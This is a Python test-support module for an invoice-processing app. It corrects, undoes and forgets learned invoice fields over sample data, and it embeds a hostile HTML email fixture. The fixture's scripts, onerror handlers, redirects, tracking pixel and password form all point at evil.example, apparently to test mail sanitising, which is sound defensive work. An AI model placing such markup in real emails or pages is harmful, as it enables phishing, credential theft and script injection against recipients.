"""Evidence and corrections over the sample desk; places and words are those of the drawn paper."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from datetime import date
from typing import TYPE_CHECKING

from fetchers.mail import shown
from model.deeds import DeedKind
from model.documents import EvidenceSource
from model.errors import WrongInput
from model.memory import Printed
from model.people import User
from model.teaching import LearnedView, Said
from model.views import DocumentView, FieldView, SidesView
from parsers.safety import sandbox

MAIL = b"""From: a@supplier.example
Subject: Your invoice
Content-Type: text/html; charset=utf-8

<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/m">
<link rel="dns-prefetch" href="//evil.example"><base href="https://evil.example/"></head>
<body style="background:url(https://evil.example/b.png)" onload="parent.hurt=1">
<h1>Your invoice is ready</h1><script>parent.hurt=1; top.location='https://evil.example/'</script>
<img src="https://evil.example/pixel.png" onerror="parent.hurt=1">
<a href="https://evil.example/pay" target="_top">Pay now</a>
<form action="https://evil.example/f"><input name="password"></form></body></html>
"""

if TYPE_CHECKING:
    from tests.ui.sample_desk import SampleDesk


def lesson(name: str, document: DocumentView | None = None) -> LearnedView:
    """Something that Maya taught, from this document or an older one."""
    return LearnedView(
        layout="932a69f8dfa3ce3c",
        name=name,
        anchors=("am", "fällig"),
        by="Maya Okafor",
        on=date(2026, 10, 12),
        document_id=document.id if document else "d99",
        number=document.number if document else "HWB 219007",
        confirmed=0 if document else 3,
        used=True,
    )


class SampleEvidence:
    """`model.evidence_desk.EvidenceDesk` over sample data."""

    def __init__(self, desk: SampleDesk) -> None:
        self._desk = desk
        self._before: dict[str, list[DocumentView]] = {}

    def places(self, sha256: str) -> Mapping[str, tuple[Printed, ...]]:
        return sandbox.places_safely(self._desk.original(sha256)[0])

    def sides(self, document_id: str) -> tuple[SidesView, ...]:
        stated = {one.name: one.value for one in self._desk.document(document_id).fields}
        both = [SidesView(name, value, value) for name, value in stated.items()]
        return (SidesView("gross_total", "321.44", stated["gross_total"]), *both[:3])

    def xml(self, document_id: str) -> str:
        return f"<Invoice><ID>{self._desk.document(document_id).number}</ID></Invoice>"

    def mail_page(self, mail_id: str) -> bytes:
        assert self._desk.mail(mail_id).page
        return shown.page(MAIL)

    def correct(self, user: User, document_id: str, said: Said) -> str:
        self._desk.note(user, f"correct {document_id} {said.name} {said.value}")
        if not said.value:
            raise WrongInput("A field can't be emptied; type what the document says.")
        before = self._desk.document(document_id)
        self._before.setdefault(document_id, []).append(before)
        self._desk.deeds.append((DeedKind.CORRECTION, lambda: self.undo(user, document_id)))
        self._desk.put(
            document_id,
            fields=tuple(
                _corrected(one, said) if one.name == said.name else one for one in before.fields
            ),
            learned=(lesson(said.name, before), *before.learned),
            correction=said.name,
        )
        self._desk.filled(document_id, said.name)
        return f"Learned where the {said.name.replace('_', ' ')} stands."

    def undo(self, user: User, document_id: str) -> str:
        self._desk.note(user, f"undo {document_id}")
        before = self._before[document_id].pop()
        self._desk.put(
            document_id,
            fields=before.fields,
            learned=before.learned,
            correction=before.correction,
        )
        return "It is again as it was."

    def forget(self, user: User, document_id: str, layout: str, name: str) -> str:
        self._desk.note(user, f"forget {document_id} {layout} {name}")
        learned = self._desk.document(document_id).learned
        self._desk.put(document_id, learned=tuple(one for one in learned if one.name != name))
        return f"Where the {name} stands is forgotten."

    def forget_all(self, user: User, document_id: str) -> str:
        self._desk.note(user, f"forget {document_id}")
        self._desk.put(document_id, learned=())
        return "All is forgotten."


def _corrected(field: FieldView, said: Said) -> FieldView:
    pointed = said.spot is not None
    return replace(
        field,
        value=said.value,
        sure=True,
        source=EvidenceSource.CLERK,
        why=f"{'pointed at' if pointed else 'typed'} by Maya Okafor",
        page=said.spot.page if said.spot else None,
        box=said.spot.box if said.spot else None,
    )
